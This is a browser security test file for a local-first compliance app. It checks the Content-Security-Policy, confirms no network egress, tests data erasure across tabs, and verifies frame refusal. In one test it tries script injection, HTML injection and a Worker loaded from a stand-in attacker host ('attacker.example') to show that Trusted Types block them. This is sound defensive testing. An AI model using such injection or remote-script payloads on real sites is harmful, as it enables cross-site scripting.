import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { baseUrl, evidenceInput, launchChromium, startAssessment, waitUntilSaved } from './browser';

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
});

/** Every request that leaves the app's origin, and every CSP violation, from any page or worker of the context. */
async function watched(context: BrowserContext) {
  const origin = new URL(baseUrl()).origin;
  const egress: string[] = [];
  context.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:')) egress.push(url);
  });
  await context.addInitScript(() => {
    const list: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = list;
    document.addEventListener('securitypolicyviolation', (event) =>
      list.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`),
    );
  });
  const violations = async (page: Page) =>
    page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
  return { egress, violations };
}

async function download(page: Page, click: () => Promise<void>): Promise<string> {
  const [file] = await Promise.all([page.waitForEvent('download'), click()]);
  const path = join(mkdtempSync(join(tmpdir(), 'conformo-sec-')), file.suggestedFilename());
  await file.saveAs(path);
  return path;
}

describe('security in Chromium, under the production Content-Security-Policy', () => {
  it('works everywhere with no CSP violation and no request leaving the origin', async () => {
    const context = await browser.newContext({ locale: 'en-GB' });
    const { egress, violations } = await watched(context);
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(error.message));
    const consoleMessages: string[] = [];
    page.on('console', (message) => consoleMessages.push(message.text()));
    await page.goto(baseUrl());
    expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toContain(
      "script-src 'self'",
    );

    await startAssessment(page, 'CSP walk');
    const measures = page.getByRole('article', { name: /Has your organisation taken measures/ });
    await measures.getByRole('radio', { name: 'Partially conform' }).check();
    await measures.getByText('What this means').click();
    await measures.locator('.help .markdown').first().waitFor();
    await (await evidenceInput(measures)).setInputFiles({
      name: 'policy.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('AI policy v1'),
    });
    await measures.getByRole('button', { name: 'policy.txt', exact: true }).waitFor();
    await page
      .getByRole('article', { name: /Who is responsible/ })
      .getByRole('textbox')
      .fill('DPO');
    await page.getByRole('heading', { level: 2 }).first().click();
    await waitUntilSaved(page);
    await measures.getByText('History of this answer').click();

    const nav = page.getByRole('navigation', { name: 'Sections' });
    await nav.getByRole('link', { name: /Prohibited/ }).click();
    await nav.getByRole('link', { name: 'Summary' }).click();
    const pdf = await download(page, () => page.getByRole('button', { name: 'Export the PDF report' }).click());
    expect(pdf).toMatch(/\.pdf$/);

    await page.getByRole('link', { name: 'Conformo', exact: true }).click();
    const backup = await download(page, () => page.getByRole('button', { name: 'Export everything' }).click());
    await page.getByLabel('Import a backup or report').setInputFiles(backup);
    await page.getByRole('status').filter({ hasText: 'already present' }).waitFor();
    await page.getByLabel('Import a backup or report').setInputFiles(pdf);
    await page.getByRole('status').filter({ hasText: 'already present' }).waitFor();

    await page.getByRole('link', { name: 'Privacy and your data' }).click();
    await page.getByRole('heading', { name: 'Nothing leaves the device' }).waitFor();

    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
    await context.setOffline(true);
    await page.reload();
    await page.getByRole('heading', { name: 'Nothing leaves the device' }).waitFor();
    await context.setOffline(false);

    expect(await violations(page)).toEqual([]);
    expect(egress).toEqual([]);
    expect(errors).toEqual([]);

    // The policy is really in force: an injected inline script is blocked and reported.
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.append(document.createTextNode('window.__injected = true'));
      document.body.append(script);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return (window as unknown as { __injected?: boolean }).__injected === true;
    });
    expect(ran).toBe(false);
    // Trusted Types stop it before script-src is asked; Chromium says so on the console, not as a violation event.
    expect(consoleMessages.join('\n')).toContain("requires 'TrustedScript' assignment");

    // Trusted Types are required: a string cannot become markup, nor load a script from elsewhere.
    const refused = await page.evaluate(() => {
      const attempts = [
        () => document.body.insertAdjacentHTML('beforeend', '<img src="x" data-injected>'),
        () => new Worker('https://attacker.example/worker.js'),
      ];
      return attempts.map((attempt) => {
        try {
          attempt();
          return 'allowed';
        } catch (error) {
          return (error as Error).name;
        }
      });
    });
    expect(refused).toEqual(['TypeError', 'TypeError']);
    expect(await page.locator('[data-injected]').count()).toBe(0);
    await context.close();
  });
});

describe('"Delete all my data" in Chromium', () => {
  it('really empties IndexedDB and the caches', async () => {
    const context = await browser.newContext({ locale: 'en-GB' });
    const page = await context.newPage();
    await page.goto(baseUrl());
    await startAssessment(page, 'To be erased');
    await page
      .getByRole('article', { name: /Who is responsible/ })
      .getByRole('textbox')
      .fill('DPO');
    await page.getByRole('heading', { level: 2 }).first().click();
    await waitUntilSaved(page);
    await page.waitForFunction(async () => (await caches.keys()).length > 0);

    await page.getByRole('link', { name: 'Privacy and your data' }).click();
    await page.getByLabel('I understand that all my Conformo data on this device will be deleted.').check();
    await page.getByRole('button', { name: 'Delete all my data' }).click();
    await page.getByText('Everything was deleted.', { exact: false }).waitFor();
    const left = await page.evaluate(async () => ({
      databases: (await indexedDB.databases()).map((d) => d.name),
      caches: await caches.keys(),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      language: localStorage.getItem('conformo.language'),
    }));
    expect(left).toEqual({ databases: [], caches: [], workers: 0, language: null });
    await page.waitForURL((url) => !url.hash.includes('privacy'));
    await page.getByText('No assessment yet', { exact: false }).waitFor();
    await context.close();
  });

  it('erases for good with three tabs open, one of them typing: no tab writes afterwards', async () => {
    const context = await browser.newContext({ locale: 'en-GB' });
    const typing = await context.newPage();
    await typing.goto(baseUrl());
    await startAssessment(typing, 'Erased while typed in');
    const field = typing.getByRole('article', { name: /Who is responsible/ }).getByRole('textbox');
    await field.fill('First words');
    await waitUntilSaved(typing);
    const home = await context.newPage();
    await home.goto(baseUrl());
    await home.getByText('Erased while typed in').first().waitFor();
    const erasing = await context.newPage();
    await erasing.goto(`${baseUrl()}#/privacy`);

    await field.click();
    const keys = typing.keyboard.type(' and more words typed while another tab erases everything', { delay: 40 });
    await erasing.getByLabel('I understand that all my Conformo data on this device will be deleted.').check();
    await erasing.getByRole('button', { name: 'Delete all my data' }).click();
    await erasing.getByText('Everything was deleted.', { exact: false }).waitFor();
    for (const tab of [typing, home]) {
      await tab.getByRole('alert').filter({ hasText: 'All data was deleted in another tab.' }).waitFor();
    }
    await keys;
    // The erasing tab reloads onto an empty home screen, which opens a new, empty database.
    await erasing.getByText('No assessment yet', { exact: false }).waitFor();
    await typing.waitForTimeout(500);

    const left = await typing.evaluate(async () => {
      const stored = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open('conformo');
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
      const count = (store: string) =>
        new Promise<number>((resolve) => {
          const request = stored.transaction(store).objectStore(store).count();
          request.onsuccess = () => resolve(request.result);
        });
      const records = {
        assessments: await count('assessments'),
        answers: await count('answers'),
        history: await count('history'),
      };
      stored.close();
      const journaled = Object.values(localStorage).filter((value) => value.includes('words'));
      return { records, journaled };
    });
    expect(left).toEqual({ records: { assessments: 0, answers: 0, history: 0 }, journaled: [] });
    await Promise.all([typing.waitForEvent('load'), typing.getByRole('button', { name: 'Reload this page' }).click()]);
    await typing.goto(baseUrl());
    await typing.getByText('No assessment yet', { exact: false }).waitFor();
    await context.close();
  });
});

describe('framing in Chromium', () => {
  it('shows nothing to click on inside a frame of another page, only a way to open it in a tab of its own', async () => {
    const context = await browser.newContext({ locale: 'en-GB' });
    const page = await context.newPage();
    await page.setContent(`<iframe title="Framed Conformo" src="${baseUrl()}" width="900" height="600"></iframe>`);
    const framed = page.frameLocator('iframe');
    await framed.getByRole('alert').filter({ hasText: 'Conformo does not run inside another page' }).waitFor();
    expect(await framed.getByRole('button').count()).toBe(0);
    expect(await framed.getByRole('link', { name: 'Open Conformo in a tab of its own' }).getAttribute('target')).toBe(
      '_blank',
    );
    expect(await framed.getByRole('heading', { name: 'New assessment' }).count()).toBe(0);
    await context.close();
  });
});
